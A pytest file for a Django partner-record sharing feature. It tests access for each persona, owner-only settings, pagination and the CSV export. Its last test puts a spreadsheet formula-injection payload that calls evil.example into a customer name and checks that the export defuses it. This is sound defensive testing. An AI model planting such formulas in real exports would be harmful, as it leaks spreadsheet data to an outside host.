"""Shared-record pages for every persona: owner, viewer, contributor, manager, partner not on
the list, revoked partner, user of an unrelated company, anonymous."""

import pytest

from sharing.models import SharedRecord
from sharing.records.services.sharing import sharing_entry_remove, sharing_entry_set
from tests.builders import client_on, company_make
from tests.sharing.helpers import SECRET, membership, partners_make, shared_opportunity_make


@pytest.fixture
def world(acme, globex):
    """acme owns a record shared with globex (viewer), c1 (contributor), c2 (manager); c3 is a
    partner not on the list; c4 was on it and was revoked; c5 is unrelated."""
    # (distinct words: a series like c1-co, c2-co would be look-alikes of each other)
    slugs = {"c1": "cobalt", "c2": "indigo", "c3": "saffron", "c4": "umber", "c5": "viridian"}
    companies = {
        name: company_make(slug, f"{name.upper()} {slug.title()}") for name, slug in slugs.items()
    }
    for partner in (globex, *[companies[n] for n in ("c1", "c2", "c3", "c4")]):
        partners_make(acme, partner)
    _, record = shared_opportunity_make(acme)
    for partner, role in (
        (globex, "viewer"),
        (companies["c1"], "contributor"),
        (companies["c2"], "manager"),
        (companies["c4"], "viewer"),
    ):
        sharing_entry_set(
            actor=acme.owner,
            actor_membership=membership(acme),
            record=record,
            partner=partner.company,
            role=role,
        )
    sharing_entry_remove(
        actor=acme.owner,
        actor_membership=membership(acme),
        record=record,
        partner=companies["c4"].company,
    )
    return {
        "record": record,
        "owner": acme,
        "viewer": globex,
        "contributor": companies["c1"],
        "manager": companies["c2"],
        "partner_not_on_list": companies["c3"],
        "revoked": companies["c4"],
        "unrelated": companies["c5"],
    }


ALLOWED = {"owner": "owner", "viewer": "viewer", "contributor": "contributor", "manager": "manager"}
DENIED = ("partner_not_on_list", "revoked", "unrelated")


@pytest.mark.django_db
@pytest.mark.parametrize("persona", [*ALLOWED, *DENIED])
def test_detail_and_inbox_per_persona(world, persona):
    record, who = world["record"], world[persona]
    client = client_on(who.host, who.member)
    detail = client.get(f"/shared/{record.pk}/")
    inbox = client.get("/shared/").content.decode()
    if persona in ALLOWED:
        assert detail.status_code == 200
        assert f'data-testid="my-role">{ALLOWED[persona]}<' in detail.content.decode()
        assert SECRET not in detail.content.decode()
        assert (record.title in inbox) == (persona != "owner")  # the inbox is what partners shared
    else:
        assert detail.status_code == 404
        assert record.title not in inbox


@pytest.mark.django_db
@pytest.mark.parametrize("persona", ["viewer", "contributor", "manager", *DENIED])
def test_only_the_owner_changes_sharing_settings(world, persona):
    record, who = world["record"], world[persona]
    response = client_on(who.host, who.owner).post(
        f"/shared/{record.pk}/settings/", {"restrict_participants": "on"}
    )
    assert response.status_code in (403, 404)
    if persona in DENIED:
        assert response.status_code == 404
    record.refresh_from_db()
    assert record.restrict_participants is False


@pytest.mark.django_db
def test_anonymous_gets_sent_to_login(world):
    response = client_on(world["viewer"].host).get(f"/shared/{world['record'].pk}/")
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.django_db
def test_restricted_visibility_hides_participants_from_each_other(world):
    record = world["record"]
    client_on(world["owner"].host, world["owner"].owner).post(
        f"/shared/{record.pk}/settings/", {"restrict_participants": "on"}
    )
    record.refresh_from_db()
    assert record.restrict_participants
    viewer_page = (
        client_on(world["viewer"].host, world["viewer"].member)
        .get(f"/shared/{record.pk}/")
        .content.decode()
    )
    participants = viewer_page.split('data-testid="participants"')[1].split("</ul>")[0]
    assert "Acme Robotics" in participants and "Globex Corporation" in participants
    assert "C1" not in participants and "C2" not in participants
    owner_page = (
        client_on(world["owner"].host, world["owner"].member)
        .get(f"/shared/{record.pk}/")
        .content.decode()
    )
    assert "C1" in owner_page and "C2" in owner_page


@pytest.mark.django_db
def test_inbox_filters_and_bounded_queries(world, django_assert_max_num_queries):
    viewer = world["viewer"]
    client = client_on(viewer.host, viewer.member)
    with django_assert_max_num_queries(13):  # a first request also fills the caches
        assert client.get("/shared/").status_code == 200
    # routing, user, membership, partners (filter), the page (both entry sides, merged, with
    # its records in one statement), unread count
    with django_assert_max_num_queries(6):
        assert client.get("/shared/").status_code == 200
    assert (
        world["record"].title in client.get("/shared/?partner=acme&stage=qualify").content.decode()
    )
    assert world["record"].title not in client.get("/shared/?stage=won").content.decode()


@pytest.mark.django_db
def test_owner_shares_from_the_opportunity_page_and_removes_again(acme, globex):
    from tests.sharing.helpers import opportunity_make

    partners_make(acme, globex)
    opportunity = opportunity_make(acme)
    client = client_on(acme.host, acme.member)
    page = client.get(f"/pipeline/{opportunity.pk}/")
    assert b'data-testid="share-form"' in page.content
    people = client.get(f"/pipeline/{opportunity.pk}/share/people/?partner=globex").content.decode()
    assert globex.member.email in people
    client.post(
        f"/pipeline/{opportunity.pk}/share/",
        {"partner": "globex", "role": "viewer", "users": [str(globex.member.pk)]},
    )
    record = SharedRecord.objects.get(source_id=opportunity.pk)
    assert client_on(globex.host, globex.member).get(f"/shared/{record.pk}/").status_code == 200
    assert client_on(globex.host, globex.owner).get(f"/shared/{record.pk}/").status_code == 404
    client.post(f"/pipeline/{opportunity.pk}/share/globex/remove/")
    assert client_on(globex.host, globex.member).get(f"/shared/{record.pk}/").status_code == 404


@pytest.mark.django_db
def test_cannot_share_with_a_company_that_is_not_a_partner(acme, globex):
    from tests.sharing.helpers import opportunity_make

    opportunity = opportunity_make(acme)
    response = client_on(acme.host, acme.member).post(
        f"/pipeline/{opportunity.pk}/share/", {"partner": "globex", "role": "viewer"}, follow=True
    )
    assert b"Choose an active partner" in response.content
    assert not SharedRecord.objects.filter(source_id=opportunity.pk).exists()
    people = (
        client_on(acme.host, acme.member)
        .get(f"/pipeline/{opportunity.pk}/share/people/?partner=globex")
        .content.decode()
    )
    assert globex.member.email not in people


@pytest.mark.django_db
def test_view_as_shows_what_the_partner_would_see_and_writes_nothing(acme, globex):
    from tests.sharing.helpers import opportunity_make

    rival = company_make("rival3")
    partners_make(acme, globex)
    partners_make(acme, rival)
    opportunity = opportunity_make(acme)
    client = client_on(acme.host, acme.member)
    before = client.get(f"/pipeline/{opportunity.pk}/preview/globex/").content.decode()
    assert 'data-testid="preview-banner"' in before and "once you share it" in before
    assert SECRET not in before and "Umbrella Corp" in before
    assert not SharedRecord.objects.filter(source_id=opportunity.pk).exists()
    for partner in (globex, rival):
        client.post(
            f"/pipeline/{opportunity.pk}/share/",
            {"partner": partner.company.slug, "role": "viewer"},
        )
    record = SharedRecord.objects.get(source_id=opportunity.pk)
    record.restrict_participants = True
    record.save(update_fields=["restrict_participants"])
    after = client.get(f"/pipeline/{opportunity.pk}/preview/globex/").content.decode()
    participants = after.split('data-testid="participants"')[1].split("</ul>")[0]
    assert "Globex Corporation" in participants and "Rival3" not in participants
    # other companies cannot use the preview to peek at acme's pipeline
    assert (
        client_on(acme.host, globex.owner)
        .get(f"/pipeline/{opportunity.pk}/preview/globex/")
        .status_code
        == 404
    )


@pytest.mark.django_db
def test_inbox_pages_newest_first_and_entries_follow_record_changes(acme, globex):
    from sharing.models import SharedRecordGroupPermission
    from sharing.records.access import shared_with_page
    from tests.sharing.helpers import opportunity_make

    partners_make(acme, globex)
    made = []
    for i in range(3):
        opportunity = opportunity_make(acme, customer_name=f"Deal {i}")
        client_on(acme.host, acme.member).post(
            f"/pipeline/{opportunity.pk}/share/", {"partner": "globex", "role": "viewer"}
        )
        made.append((opportunity, SharedRecord.objects.get(source_id=opportunity.pk)))
    first, more = shared_with_page(user=globex.member, company=globex.company, per_page=2)
    assert [r.title for r in first] == ["Deal 2", "Deal 1"] and more
    second, more = shared_with_page(user=globex.member, company=globex.company, per_page=2, page=2)
    assert [r.title for r in second] == ["Deal 0"] and not more
    # activity on the oldest brings it to the top; a stage change moves it between filters
    opportunity, record = made[0]
    client_on(acme.host, acme.member).post(
        f"/shared/{record.pk}/collaborate/", {"stage": "won", "version": record.version}
    )
    top, _ = shared_with_page(user=globex.member, company=globex.company, per_page=1)
    assert top[0].pk == record.pk
    assert [
        r.pk for r in shared_with_page(user=globex.member, company=globex.company, stage="won")[0]
    ] == [record.pk]
    entry = SharedRecordGroupPermission.objects.get(content_object=record, company=globex.company)
    record.refresh_from_db()
    assert (entry.record_stage, entry.record_activity_at) == ("won", record.last_activity_at)
    # archiving takes it out of the inbox
    client_on(acme.host, acme.member).post(f"/pipeline/{opportunity.pk}/archive/")
    assert record.pk not in [
        r.pk for r in shared_with_page(user=globex.member, company=globex.company)[0]
    ]


@pytest.mark.django_db
def test_dashboard_counts_partners_and_records_shared_with_the_company(acme, globex):
    partners_make(acme, globex)
    _, record = shared_opportunity_make(acme)
    sharing_entry_set(
        actor=acme.owner,
        actor_membership=membership(acme),
        record=record,
        partner=globex.company,
        role="viewer",
    )
    page = client_on(globex.host, globex.member).get("/").content.decode()
    assert 'data-testid="partner-count">1<' in page and 'data-testid="shared-count">1<' in page
    other = client_on(acme.host, acme.member).get("/").content.decode()
    assert 'data-testid="partner-count">1<' in other and 'data-testid="shared-count">0<' in other


@pytest.mark.django_db
def test_export_lists_only_what_is_shared_now_and_never_private_fields(acme, globex):
    import csv
    import io

    partners_make(acme, globex)
    _, record = shared_opportunity_make(acme)
    sharing_entry_set(
        actor=acme.owner,
        actor_membership=membership(acme),
        record=record,
        partner=globex.company,
        role="viewer",
    )

    def export(world):  # type: ignore[no-untyped-def]
        response = client_on(world.host, world.member).get("/shared/export.csv")
        assert response.status_code == 200
        return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    rows = export(globex)
    assert [r["id"] for r in rows] == [str(record.pk)] and rows[0]["owner"] == "Acme Robotics"
    assert SECRET not in str(rows)
    from sharing.records.services.sharing import sharing_entry_remove

    sharing_entry_remove(
        actor=acme.owner, actor_membership=membership(acme), record=record, partner=globex.company
    )
    assert export(globex) == []
    assert client_on(acme.host, globex.owner).get("/shared/export.csv").status_code == 404


@pytest.mark.django_db
def test_needs_my_answer_filter(acme, globex):
    from sharing.models import Participation
    from sharing.records.access import shared_with_page

    partners_make(acme, globex)
    records = []
    for name in ("Answered", "Waiting"):
        _, record = shared_opportunity_make(acme, customer_name=name)
        sharing_entry_set(
            actor=acme.owner,
            actor_membership=membership(acme),
            record=record,
            partner=globex.company,
            role="viewer",
        )
        records.append(record)
    Participation.objects.filter(record=records[0], company=globex.company).update(
        status="accepted"
    )
    page, _ = shared_with_page(user=globex.member, company=globex.company, needs_action=True)
    assert [r.pk for r in page] == [records[1].pk]
    html = client_on(globex.host, globex.member).get("/shared/?needs_action=1").content.decode()
    assert "Waiting" in html and ">Answered" not in html


@pytest.mark.django_db
def test_inbox_pages_merge_company_and_named_entries_newest_first(acme, globex):
    """The inbox reads whole-company entries and the user's named entries as two ordered
    scans; the pages must still interleave them by activity, without gaps or repeats."""
    from sharing.records.access import shared_with_page

    partners_make(acme, globex)
    made = []
    for i in range(5):
        _, record = shared_opportunity_make(acme, customer_name=f"Deal {i}")
        sharing_entry_set(
            actor=acme.owner,
            actor_membership=membership(acme),
            record=record,
            partner=globex.company,
            role="viewer",
            users=[globex.member] if i % 2 else [],
        )
        made.append(record)
    newest_first = [r.pk for r in reversed(made)]
    pages, page, more = [], 1, True
    while more:
        rows, more = shared_with_page(
            user=globex.member, company=globex.company, per_page=2, page=page
        )
        pages.append([r.pk for r in rows])
        page += 1
    assert pages == [newest_first[0:2], newest_first[2:4], newest_first[4:5]]


@pytest.mark.django_db
def test_an_absurd_inbox_page_number_answers_an_empty_page_not_a_500(acme, globex):
    from tests.sharing.helpers import shared_opportunity_make

    partners_make(acme, globex)
    _, record = shared_opportunity_make(acme)
    sharing_entry_set(
        actor=acme.owner,
        actor_membership=membership(acme),
        record=record,
        partner=globex.company,
        role="viewer",
    )
    client = client_on(globex.host, globex.member)
    huge = "99999999999999999999"
    api = client.get(f"/api/v1/shared/?shared_with_me=true&page={huge}")
    assert api.status_code == 200 and api.json()["results"] == []
    assert client.get(f"/shared/?page={huge}").status_code == 200
    # the pages still read right around it
    assert [
        r["id"] for r in client.get("/api/v1/shared/?shared_with_me=true").json()["results"]
    ] == [str(record.pk)]


@pytest.mark.django_db
def test_the_csv_export_defuses_what_a_spreadsheet_would_run(acme, globex):
    """A partner's customer or company name that starts with = + - @ is text in the export,
    never a formula in the reader's spreadsheet; numbers stay numbers."""
    import csv
    import io

    from sharing.records.services.sharing import sharing_entry_set
    from tests.sharing.helpers import membership, partners_make, shared_opportunity_make

    partners_make(acme, globex)
    _, record = shared_opportunity_make(
        acme, customer_name='=HYPERLINK("http://evil.example/?"&A1,"Click")'
    )
    sharing_entry_set(
        actor=acme.owner,
        actor_membership=membership(acme),
        record=record,
        partner=globex.company,
        role="viewer",
    )
    client = client_on(globex.host, globex.member)
    rows = list(
        csv.DictReader(
            io.StringIO(b"".join(client.get("/shared/export.csv").streaming_content).decode())
        )
    )
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"].startswith("'=")
    assert row["amount"] == "125000.00"
